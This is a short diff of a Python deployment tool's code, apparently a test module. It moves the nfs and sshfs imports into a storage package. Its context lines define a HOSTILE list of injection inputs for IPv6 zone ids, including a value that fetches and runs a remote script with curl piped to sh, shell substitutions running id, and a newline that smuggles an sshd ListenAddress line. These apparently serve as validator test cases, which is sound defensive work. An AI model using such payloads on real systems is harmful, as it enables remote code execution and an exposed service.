@@ -22,7 +22,8 @@ from fabfile.core.inventory import parse_inventory
 from fabfile.core.mapping import parse_mapping
 from fabfile.core.networks import Reach, check_bind_address, check_network, read_reach, strict_ip
 from fabfile.ops.shared import launch
-from fabfile.ops import mesh, netenv, nfs, ray, sshfs
+from fabfile.ops import mesh, netenv, ray
+from fabfile.ops.storage import nfs, sshfs
 
 HOSTILE = ["fd00::10%x;curl http://198.18.0.1/x|sh", "fd00::1%;id", "fd00::1%eth0", "fe80::1%x,*",
            "fd00::1%a\nListenAddress 0.0.0.0", "fd00::1%`id`"]
